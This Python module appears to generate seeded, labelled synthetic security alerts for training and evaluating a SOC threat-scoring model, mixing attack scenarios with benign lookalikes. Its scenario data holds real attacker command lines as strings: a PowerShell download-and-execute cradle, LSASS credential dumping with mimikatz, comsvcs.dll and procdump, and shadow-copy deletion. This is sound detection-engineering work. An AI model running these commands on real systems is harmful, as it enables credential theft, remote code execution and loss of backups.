"""A deterministic generator of realistic, labelled SOC alerts.

It bootstraps the first models on a fresh install (there is no analyst feedback yet)
and gives every evaluation a fixed held-out set. The same seed always yields the same
alerts, so model versions are reproducible and tests can rely on the data.

The alerts come from a catalogue of scenarios modelled on what a mid-size SOC sees
every day (docs/soc.md lists them): true attacks (phishing macro launching encoded
PowerShell, LSASS credential dumping, ransomware shadow-copy deletion, C2 beaconing,
brute force that succeeded from abroad, PsExec lateral movement, exfiltration) and the
noise that resembles them (SCCM admin scripts, the vulnerability scanner, users
mistyping passwords, backup agents, sanctioned remote-support tools, vendor updates,
developers' packers). Each scenario has a *probability* of being a true attack rather
than a fixed label, so the classes overlap the way real ones do and no model is perfect.

Labels and the threat target:
- ``is_threat``: drawn with the scenario's ``threat_rate``;
- ``threat``: the 0-100 target of the ThreatScorer = likelihood x impact —
  see ``threat_target``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

import numpy as np

from contracts.soc import SEVERITIES, Alert, Process

EPOCH = datetime(2026, 1, 5, tzinfo=UTC)  # a Monday: generated times are fixed, not "now"
BOOTSTRAP_SEED = 1337
HOLDOUT_SEED = 7331


@dataclass(frozen=True)
class Scenario:
    name: str
    weight: float  # relative frequency
    threat_rate: float  # probability that an alert of this scenario is a real attack
    sources: tuple[str, ...]
    titles: tuple[str, ...]
    severities: tuple[float, ...]  # probabilities over informational..critical
    techniques: tuple[str, ...] = ()
    hosts: str = "workstation"  # workstation | server | dc | any
    users: str = "regular"  # regular | privileged | service | none
    src_external: float = 0.0  # probability src_ip is on the internet (None: no src_ip)
    dst_external: float | None = None
    processes: tuple[tuple[str, str, str], ...] = ()  # (name, command line, parent)
    count: tuple[int, int] = (1, 3)
    business_hours: float = 0.7  # share of alerts between 08:00 and 18:00
    domain_rate: float = 0.0
    cve_rate: float = 0.0
    hash_rate: float = 0.0
    extra: dict[str, str] = field(default_factory=dict)


SCENARIOS: tuple[Scenario, ...] = (
    # --- attacks ------------------------------------------------------------------
    Scenario(
        "phishing-macro-powershell",
        4,
        0.85,
        ("crowdstrike", "defender"),
        ("Office application spawned PowerShell", "Suspicious encoded PowerShell command"),
        (0, 0, 0.1, 0.5, 0.4),
        ("T1566.001", "T1059.001", "T1027"),
        processes=(
            (
                "powershell.exe",
                "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0",
                "winword.exe",
            ),
            (
                "powershell.exe",
                "powershell -ep bypass -c iex(new-object net.webclient).downloadstring('http://x')",
                "excel.exe",
            ),
        ),
        dst_external=0.8,
        domain_rate=0.6,
        hash_rate=0.7,
    ),
    Scenario(
        "lsass-credential-dump",
        2,
        0.9,
        ("crowdstrike", "sysmon", "sentinelone"),
        ("LSASS memory access by unusual process", "Credential dumping tool detected"),
        (0, 0, 0, 0.3, 0.7),
        ("T1003.001",),
        hosts="server",
        users="privileged",
        processes=(
            ("mimikatz.exe", "mimikatz.exe privilege::debug sekurlsa::logonpasswords", "cmd.exe"),
            (
                "rundll32.exe",
                "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 lsass.dmp full",
                "cmd.exe",
            ),
            ("procdump.exe", "procdump.exe -ma lsass.exe out.dmp", "cmd.exe"),
        ),
        business_hours=0.4,
        hash_rate=0.8,
    ),
    Scenario(
        "ransomware-impact",
        1,
        0.95,
        ("defender", "crowdstrike", "sentinelone"),
        ("Volume shadow copies deleted", "Mass file encryption behaviour"),
        (0, 0, 0, 0.1, 0.9),
        ("T1490", "T1486"),
        hosts="any",
        processes=(
            ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe"),
            ("wmic.exe", "wmic shadowcopy delete", "powershell.exe"),
        ),
        count=(50, 5000),
        business_hours=0.2,
        hash_rate=0.9,
    ),
    Scenario(
        "c2-beaconing",
        3,
        0.75,
        ("suricata", "zeek", "paloalto"),
        ("Periodic beaconing to rare external host", "ET MALWARE Cobalt Strike Beacon Observed"),
        (0, 0.05, 0.25, 0.5, 0.2),
        ("T1071.001", "T1573"),
        src_external=0.0,
        dst_external=1.0,
        count=(20, 800),
        business_hours=0.5,
        domain_rate=0.8,
    ),
    Scenario(
        "external-bruteforce-success",
        2,
        0.7,
        ("okta", "azuread", "windows-security"),
        ("Successful login after repeated failures", "Impossible travel sign-in"),
        (0, 0, 0.2, 0.6, 0.2),
        ("T1110.003", "T1078"),
        hosts="none",
        src_external=1.0,
        count=(20, 400),
        business_hours=0.3,
    ),
    Scenario(
        "psexec-lateral-movement",
        2,
        0.8,
        ("crowdstrike", "sysmon", "windows-security"),
        ("Remote service created via PsExec", "Lateral movement with admin shares"),
        (0, 0, 0.2, 0.6, 0.2),
        ("T1021.002", "T1570"),
        hosts="server",
        users="privileged",
        processes=(
            ("psexesvc.exe", "psexesvc.exe", "services.exe"),
            ("cmd.exe", "cmd.exe /c whoami /all", "psexesvc.exe"),
        ),
        business_hours=0.35,
        hash_rate=0.5,
    ),
    Scenario(
        "data-exfiltration",
        1,
        0.7,
        ("zscaler", "paloalto", "cloudtrail"),
        ("Large upload to personal cloud storage", "Unusual outbound data volume"),
        (0, 0.1, 0.3, 0.4, 0.2),
        ("T1567.002", "T1048"),
        dst_external=1.0,
        count=(1, 30),
        business_hours=0.4,
        domain_rate=0.9,
    ),
    Scenario(
        "exploited-public-app",
        1,
        0.8,
        ("waf", "suricata", "cloudflare"),
        ("Exploit attempt against public web application", "ET EXPLOIT Remote code execution attempt"),
        (0, 0, 0.2, 0.5, 0.3),
        ("T1190",),
        hosts="server",
        users="none",
        src_external=1.0,
        count=(1, 50),
        business_hours=0.5,
        cve_rate=0.9,
    ),
    # --- noise that looks like attacks ----------------------------------------------
    Scenario(
        "sccm-admin-powershell",
        6,
        0.04,
        ("crowdstrike", "defender"),
        ("Suspicious encoded PowerShell command", "PowerShell execution policy bypass"),
        (0.1, 0.3, 0.4, 0.2, 0),
        ("T1059.001",),
        hosts="any",
        users="service",
        processes=(
            (
                "powershell.exe",
                "powershell.exe -executionpolicy bypass -file C:\\Windows\\CCM\\SystemTemp\\inv.ps1",
                "ccmexec.exe",
            ),
            (
                "powershell.exe",
                "powershell.exe -noprofile -file \\\\fs-01\\it\\scripts\\patch.ps1",
                "svchost.exe",
            ),
        ),
        business_hours=0.9,
    ),
    Scenario(
        "vulnerability-scanner",
        6,
        0.02,
        ("suricata", "snort", "zeek"),
        ("ET SCAN Nmap Scripting Engine", "Port scan detected", "ET EXPLOIT Remote code execution attempt"),
        (0.2, 0.4, 0.3, 0.1, 0),
        ("T1046",),
        hosts="server",
        users="none",
        src_external=0.02,
        dst_external=0.0,
        count=(50, 3000),
        business_hours=0.6,
        cve_rate=0.3,
    ),
    Scenario(
        "password-typos",
        7,
        0.03,
        ("okta", "azuread", "windows-security"),
        ("Multiple failed logins for user", "Account lockout"),
        (0.2, 0.5, 0.3, 0, 0),
        ("T1110.001",),
        hosts="none",
        src_external=0.15,
        count=(3, 12),
        business_hours=0.85,
    ),
    Scenario(
        "backup-agent-bulk-read",
        3,
        0.02,
        ("defender", "sysmon"),
        ("Mass file access by single process", "Sensitive file collection"),
        (0.2, 0.4, 0.3, 0.1, 0),
        ("T1005", "T1560"),
        hosts="server",
        users="service",
        processes=(("veeamagent.exe", "veeamagent.exe --job nightly", "services.exe"),),
        count=(500, 20000),
        business_hours=0.1,
    ),
    Scenario(
        "sanctioned-remote-support",
        4,
        0.05,
        ("crowdstrike", "paloalto"),
        ("Remote access tool execution", "Remote access software connection"),
        (0.1, 0.5, 0.3, 0.1, 0),
        ("T1219",),
        dst_external=1.0,
        processes=(
            ("teamviewer.exe", "teamviewer.exe --id 123456", "explorer.exe"),
            ("anydesk.exe", "anydesk.exe", "explorer.exe"),
        ),
        business_hours=0.9,
        domain_rate=0.5,
    ),
    Scenario(
        "vendor-software-update",
        5,
        0.03,
        ("zscaler", "defender"),
        ("Executable downloaded from the internet", "Unsigned binary written to disk"),
        (0.3, 0.4, 0.3, 0, 0),
        ("T1105",),
        dst_external=1.0,
        processes=(
            ("curl", "curl -sSLO https://updates.vendor.example/agent.msi", "bash"),
            ("msiexec.exe", "msiexec.exe /i agent.msi /qn", "svchost.exe"),
        ),
        business_hours=0.8,
        domain_rate=0.9,
        hash_rate=0.6,
    ),
    Scenario(
        "developer-packer",
        3,
        0.08,
        ("defender", "crowdstrike"),
        ("Obfuscated file detected", "Suspicious packed executable"),
        (0.1, 0.4, 0.4, 0.1, 0),
        ("T1027",),
        processes=(
            ("python3", "python3 -m pyinstaller --onefile tool.py", "bash"),
            ("node", "node build.js --minify", "bash"),
        ),
        business_hours=0.8,
        hash_rate=0.8,
    ),
    Scenario(
        "it-admin-discovery",
        4,
        0.1,
        ("crowdstrike", "sysmon"),
        ("Domain discovery commands executed", "Account enumeration"),
        (0.2, 0.4, 0.3, 0.1, 0),
        ("T1087.002", "T1018"),
        users="privileged",
        processes=(
            ("net.exe", 'net group "domain admins" /domain', "cmd.exe"),
            ("nltest.exe", "nltest /dclist:corp", "cmd.exe"),
        ),
        business_hours=0.85,
    ),
)

FIRST_NAMES = (
    "alice",
    "bob",
    "carol",
    "dave",
    "erin",
    "frank",
    "grace",
    "heidi",
    "ivan",
    "judy",
    "mallory",
    "oscar",
)
PRIVILEGED = ("admin.alice", "adm-bob", "root", "domain-admin.carol", "admin.dave")
SERVICES = ("svc-sccm", "svc-backup", "svc-deploy", "svc-monitor")
_EXTERNAL_PREFIXES = (45, 62, 77, 91, 103, 141, 154, 176, 185, 193, 194, 212)


_ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789"


def _severity_index(draw: float, weights: tuple[float, ...]) -> int:
    total = sum(weights)
    cumulative = 0.0
    for index, weight in enumerate(weights):
        cumulative += weight / total
        if draw < cumulative:
            return index
    return len(weights) - 1


def _pick(rng: np.random.Generator, values: tuple) -> object:
    return values[int(rng.integers(len(values)))]


def _internal_ip(rng: np.random.Generator) -> str:
    return f"10.{int(rng.integers(0, 8))}.{int(rng.integers(0, 255))}.{int(rng.integers(2, 254))}"


def _external_ip(rng: np.random.Generator) -> str:
    first = _pick(rng, _EXTERNAL_PREFIXES)
    return f"{first}.{int(rng.integers(1, 255))}.{int(rng.integers(0, 255))}.{int(rng.integers(2, 254))}"


def _host(rng: np.random.Generator, kind: str) -> str:
    if kind == "none":
        return ""
    if kind == "any":
        kind = str(_pick(rng, ("workstation", "workstation", "server", "dc")))
    if kind == "server":
        return f"{_pick(rng, ('srv', 'db-', 'web-', 'app-', 'fs-'))}{int(rng.integers(1, 40)):02d}"
    if kind == "dc":
        return f"dc-{int(rng.integers(1, 4)):02d}"
    return f"ws-{int(rng.integers(1000, 1400))}"


def _user(rng: np.random.Generator, kind: str) -> str:
    if kind == "none":
        return ""
    if kind == "privileged":
        return str(_pick(rng, PRIVILEGED))
    if kind == "service":
        return str(_pick(rng, SERVICES))
    return f"{_pick(rng, FIRST_NAMES)}.{_pick(rng, ('smith', 'jones', 'lee', 'khan', 'garcia'))}"


def _time(rng: np.random.Generator, business_hours: float) -> datetime:
    day = int(rng.integers(0, 28))
    if rng.random() < business_hours:
        if day % 7 >= 5:  # EPOCH is a Monday: move weekend days back to Thursday/Friday
            day -= 2
        hour = rng.uniform(8, 18)
    else:
        hour = float(rng.choice([rng.uniform(0, 7), rng.uniform(19, 24)]))
    return EPOCH + timedelta(days=day, hours=hour)


@dataclass(frozen=True)
class LabelledAlert:
    alert: Alert
    is_threat: bool
    threat: float  # 0..100, the ThreatScorer's target
    scenario: str


def threat_target(alert: Alert, is_threat: bool) -> float:
    """likelihood x impact on a 0-100 scale. Impact grows with severity, the asset (a
    domain controller or server), a privileged account and late kill-chain stages;
    a false positive keeps a small residual score so severe noise is not zero."""
    severity = SEVERITIES.index(alert.severity) / 4
    impact = 0.45 + 0.35 * severity
    host = alert.host.lower()
    if host.startswith("dc-"):
        impact += 0.15
    elif host and not host.startswith("ws-"):
        impact += 0.07
    if any(marker in alert.user.lower() for marker in ("admin", "root")):
        impact += 0.05
    if any(t.startswith(("T1486", "T1490", "T1048", "T1567", "T1003")) for t in alert.techniques):
        impact += 0.1
    impact = min(impact, 1.0)
    return round(100 * impact if is_threat else 12 * impact, 2)


def generate(n: int, seed: int = BOOTSTRAP_SEED) -> list[LabelledAlert]:
    """``n`` labelled alerts; the same (n, seed) always gives the same alerts."""
    rng = np.random.default_rng(seed)
    weights = np.array([s.weight for s in SCENARIOS], dtype=float)
    choices = rng.choice(len(SCENARIOS), size=n, p=weights / weights.sum())
    return [_one(rng, SCENARIOS[int(index)], seed, number) for number, index in enumerate(choices)]


def _one(rng: np.random.Generator, scenario: Scenario, seed: int, number: int) -> LabelledAlert:
    is_threat = bool(rng.random() < scenario.threat_rate)
    severity = SEVERITIES[_severity_index(rng.random(), scenario.severities)]
    # an analyst-confirmed attack tends to be reported a notch higher than the noise
    if is_threat and severity != "critical" and rng.random() < 0.3:
        severity = SEVERITIES[SEVERITIES.index(severity) + 1]
    process = None
    if scenario.processes:
        name, command_line, parent = _pick(rng, scenario.processes)  # type: ignore[misc]
        sha = None
        if rng.random() < scenario.hash_rate:
            sha = rng.bytes(32).hex()
        process = Process(name=name, command_line=command_line, parent=parent, sha256=sha)
    src = None
    if scenario.hosts == "none" or scenario.src_external > 0 or rng.random() < 0.5:
        src = _external_ip(rng) if rng.random() < scenario.src_external else _internal_ip(rng)
    dst = None
    if scenario.dst_external is not None:
        dst = _external_ip(rng) if rng.random() < scenario.dst_external else _internal_ip(rng)
    low, high = scenario.count
    count = int(np.exp(rng.uniform(np.log(low), np.log(high + 1))))
    domain = None
    if rng.random() < scenario.domain_rate:
        label = "".join(_ALPHABET[int(i)] for i in rng.integers(0, len(_ALPHABET), size=8))
        domain = f"{label}.{_pick(rng, ('com', 'net', 'io', 'xyz', 'top'))}"
    cves = (
        [f"CVE-{int(rng.integers(2021, 2026))}-{int(rng.integers(1000, 49999))}"]
        if rng.random() < scenario.cve_rate
        else []
    )
    techniques = [t for t in scenario.techniques if rng.random() < 0.85] or list(scenario.techniques[:1])
    alert = Alert(
        id=f"gen-{seed}-{number:06d}",
        time=_time(rng, scenario.business_hours if not is_threat else scenario.business_hours * 0.7),
        source=str(_pick(rng, scenario.sources)),
        title=str(_pick(rng, scenario.titles)),
        severity=severity,  # type: ignore[arg-type]
        host=_host(rng, scenario.hosts),
        user=_user(rng, scenario.users),
        src_ip=src,
        dst_ip=dst,
        domain=domain,
        process=process,
        techniques=techniques,
        cves=cves,
        count=max(count, 1),
        raw={"generator": scenario.name},
    )
    return LabelledAlert(alert, is_threat, threat_target(alert, is_threat), scenario.name)
